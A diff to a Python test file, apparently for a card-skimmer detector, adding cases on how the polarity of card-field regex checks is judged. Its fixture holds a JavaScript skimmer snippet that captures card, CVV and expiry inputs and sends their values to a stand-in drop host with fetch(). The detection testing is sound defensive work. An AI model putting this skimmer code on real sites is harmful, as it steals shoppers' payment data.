@@ -333,6 +333,9 @@ def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untype
     ("if (CARD.test(k)) { grab(e.target); }", True),
     ("function slot() { if (CARD.test(k)) return 'card'; return null; }\n"
      "  if (slot() !== 'card') return;", True),  # a classifier's answer, not an exit
+    ("if (!CARD.test(k)) { skipped++; return; }", True),
+    ("if (!CARD.test(k)) throw 0;", True),
+    ("!CARD.test(k) || grab(e.target);", True),  # = if (CARD.test(k)) grab(…)
     ("if (CARD.test(k)) return;", False),  # leaves card fields alone
     ("if (!ADDRESS.test(k) || CARD.test(k)) return;", False),
     ("if (ADDRESS.test(k) && !CARD.test(k)) { grab(e.target); }", False),
@@ -341,7 +344,7 @@ def test_card_pattern_polarity(guard: str, targets: bool, analyze) -> None:  # t
     """A card-field regex finds the fields a script targets — or the ones it leaves alone (an
     address lookup, a search box): what a match does decides which."""
     report = analyze(
-        "var CARD = /cc[-_]|card|cvv|cvc|csc|exp/i, ADDRESS = /street|address/i;\n"
+        "var CARD = /cc[-_]|card|cvv|cvc|csc|exp/i, ADDRESS = /street|address/i, skipped = 0;\n"
         "function grab(el) { fetch('" + DROP + "?q=' + encodeURIComponent(el.value)); }\n"
         "document.addEventListener('input', function (e) {\n"
         "  var k = e.target.name + ' ' + e.target.id;\n"
